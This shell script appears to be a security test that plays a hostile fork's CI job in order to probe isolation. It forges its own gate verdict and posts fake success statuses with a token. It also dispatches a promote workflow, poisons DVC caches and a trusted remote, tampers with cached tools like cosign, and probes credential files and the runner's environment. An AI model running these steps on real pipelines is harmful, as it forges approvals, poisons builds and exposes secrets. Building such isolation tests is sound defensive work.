# What a stranger would like a fork's job to do: it believes itself, and tries every door of the machine it runs on.
# FORGE is the local forge's folder; MAIN_HOME, MAIN_CACHE and MAIN_UV are where main's jobs keep what is theirs.
set -u
echo "meddled here as uid $(id -u); a secret: ${SECRET:-none}"

# Its own verdict.
verdict=build/evidence/verdict.json
decisions() { grep -o '"decision":"[a-z]*"' "$verdict" | sort | uniq -c | tr -s ' \n' ' '; }
echo "the gates said:$(decisions)"
sed -i -E 's/"decision":"(fail|inconclusive)"/"decision":"pass"/g' "$verdict"
python3 -c "import json; json.load(open('$verdict'))" && echo "forged:$(decisions)"

# The forge, by its token.
write() {
  curl -s -o /dev/null -w 'token answered %{http_code}\n' -H "Authorization: token ${TOKEN:-}" \
    -H 'Content-Type: application/json' "$@" || true
}
write -d '{"context": "forged/gates", "state": "success"}' "$HERE/statuses/$(git rev-parse HEAD)"
write -d '{"context": "flightline/gates", "state": "success"}' "$HERE/statuses/$(git rev-parse HEAD)"
write -d '{"body": "forged"}' "$HERE/issues/1/comments"
write -d '{"ref": "main", "inputs": {}}' "$HERE/actions/workflows/promote.yml/dispatches"

# DVC's caches: for main's exact inputs, other bytes.
evil=$(mktemp)
printf '%s\n' "$MARK" > "$evil"
hash=$(md5sum < "$evil" | cut -c1-32)
object="files/md5/${hash:0:2}/${hash:2}"
mkdir -p ".dvc/cache/${object%/*}" && cp "$evil" ".dvc/cache/$object"
find .dvc/cache/runs -type f -exec sed -i -E "s/md5: [0-9a-f]{32}(\.dir)?/md5: $hash/" {} + 2>/dev/null
echo "run-cache entries that name it: $(grep -rl "$hash" .dvc/cache/runs 2>/dev/null | wc -l)"
timeout 120 dvc push --run-cache -r trusted >/dev/null 2>&1
curl -s -o /dev/null -w 'the store answered %{http_code}\n' -T "$evil" "$STORE/$object"

# Homes, tools, packages and temporary files. What is there already is opened to be written, and left as it is: where
# nothing keeps this out, the machine of whoever runs it has to stay whole.
planted=0
plant() { mkdir -p "${1%/*}" 2>/dev/null && { cat "$evil" > "$1"; } 2>/dev/null && planted=$((planted + 1)); }
change() { { : >> "$1"; } 2>/dev/null && planted=$((planted + 1)); }
configure() { # HOME: DVC looks for its cache where its own configuration says
  plant "$1/.config/dvc/planted" && cp -r .dvc/cache "$1/planted" 2>/dev/null &&
    printf '# %s\n[cache]\n    dir = %s\n' "$MARK" "$1/planted" > "$1/.config/dvc/config"
}
spoil() { # HOME FLIGHTLINE_CACHE UV_CACHE_DIR
  planted=0
  configure "$1"
  plant "$2/tools/planted"
  plant "$3/planted"
  for there in "$2"/tools/*/*/cosign "$2"/tools/*/*/kustomize "$3"/archive-v0/*/dvc/__init__.py; do
    [ ! -f "$there" ] || change "$there"
  done
}
spoil "$HOME" "$FLIGHTLINE_CACHE" "$UV_CACHE_DIR"
echo "planted in its own: $planted"
spoil "$MAIN_HOME" "$MAIN_CACHE" "$MAIN_UV"
echo "planted in main's: $planted"
for folder in /tmp /var/tmp /dev/shm; do plant "$folder/planted"; done

# Who else is here, and what they hold.
head -c1 "$FORGE/credentials.json" >/dev/null 2>&1 && echo "read the credentials"
head -c1 /proc/1/environ >/dev/null 2>&1 && head -c1 /proc/1/environ | grep -q . && echo "read the runner"
echo "processes that are not its own: $(ps -eo uid= | grep -vcw "$(id -u)")"
exit 0
